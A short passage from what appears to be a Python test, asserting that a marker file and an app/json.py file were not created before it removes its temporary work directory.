        assert not marker.exists() and not (app / "json.py").exists(), err
    finally:
        shutil.rmtree(work)
